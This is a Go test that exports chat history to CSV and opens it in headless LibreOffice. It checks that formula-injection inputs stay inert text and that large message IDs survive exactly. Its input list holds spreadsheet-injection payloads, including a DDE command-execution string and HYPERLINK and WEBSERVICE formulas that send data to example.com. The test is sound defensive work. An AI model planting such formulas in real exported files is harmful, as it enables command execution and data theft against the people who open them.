package cli

import (
	"encoding/csv"
	"encoding/json"
	"fmt"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"

	"backscroll/zim/emulator"
)

// TestExportInASpreadsheet opens a CSV in LibreOffice: IDs are exact, formulas are
// text, and so is all else that a spreadsheet would make something of.
func TestExportInASpreadsheet(t *testing.T) {
	t.Parallel()
	if _, err := exec.LookPath("soffice"); err != nil {
		t.Skip("libreoffice is not installed")
	}
	said := []string{
		`=1+1`, `=HYPERLINK("http://example.com/?"&A1,"click")`, `+1+1`, `-2+3`, `@SUM(1;1)`, "\t=1+1", ` =1+1`, `＝1+1`,
		`=cmd|' /C calc'!A0`, `=WEBSERVICE("http://example.com")`, `'=1+1`, `";=1+1;"`, "a\n=1+1", "a\r\n=1+1", `1234567890123456789`,
		`plain, with "quotes" and a comma`, `你好`, `%0A=1`,
	}
	senders := []string{"007", "1e3", "2026-05-01", "1/2", "9007199254740993", "TRUE", "=A1", "-5", "u1"}
	var rows []json.RawMessage
	for n, text := range said {
		body, err := json.Marshal(text)
		if err != nil {
			t.Fatal(err)
		}
		rows = append(rows, fmt.Appendf(nil, `{"Sender":%q,"MsgType":1,"MsgBody":%s,"Payload":%[2]s,"MsgId":%d,"MsgSeq":%d,"MsgTime":1777636800000}`,
			senders[n%len(senders)], body, 9007199254740993+n, n+1))
	}
	s := newService(t, emulator.WithPeerHistory("u1", "u2", rows...))
	dir := t.TempDir()
	file := filepath.Join(dir, "x.csv")
	s.run(t, "export --user u1 --peer u2 -o "+file)

	out := filepath.Join(dir, "out")
	c := exec.Command("soffice", "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--infilter=Text - txt - csv (StarCalc):44,34,76", "--convert-to", "fods", "--outdir", out, file)
	if text, err := c.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v: %s", err, text)
	}
	sheet := readFile(t, filepath.Join(out, "x.fods"))
	if strings.Contains(sheet, "table:formula") || strings.Contains(sheet, "xlink:href") {
		t.Error("there is a formula or a link")
	}
	lines, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(readFile(t, file), "\ufeff"))).ReadAll()
	if err != nil || len(lines) != len(said)+1 {
		t.Fatalf("%d lines, %v", len(lines), err)
	}
	// And back: what LibreOffice saw is what was written.
	c = exec.Command("soffice", "--headless", "-env:UserInstallation=file://"+filepath.Join(dir, "profile"),
		"--convert-to", "csv:Text - txt - csv (StarCalc):44,34,76,1,,0,true", "--outdir", filepath.Join(dir, "back"), filepath.Join(out, "x.fods"))
	if text, err := c.CombinedOutput(); err != nil {
		t.Fatalf("soffice: %v: %s", err, text)
	}
	back, err := csv.NewReader(strings.NewReader(strings.TrimPrefix(readFile(t, filepath.Join(dir, "back", "x.csv")), "\ufeff"))).ReadAll()
	if err != nil {
		t.Fatal(err)
	}
	for i, line := range lines {
		for k, field := range line {
			if i >= len(back) || k >= len(back[i]) || back[i][k] != field {
				t.Errorf("line %d, field %d: LibreOffice has %q, want %q", i, k, back[i], field)
				break
			}
		}
	}
	for n := range said { // exact, though beyond what a spreadsheet's numbers hold
		if want := fmt.Sprintf(">&apos;%d<", 9007199254740993+n); !strings.Contains(sheet, want) {
			t.Errorf("no cell has %s", want)
		}
	}
}
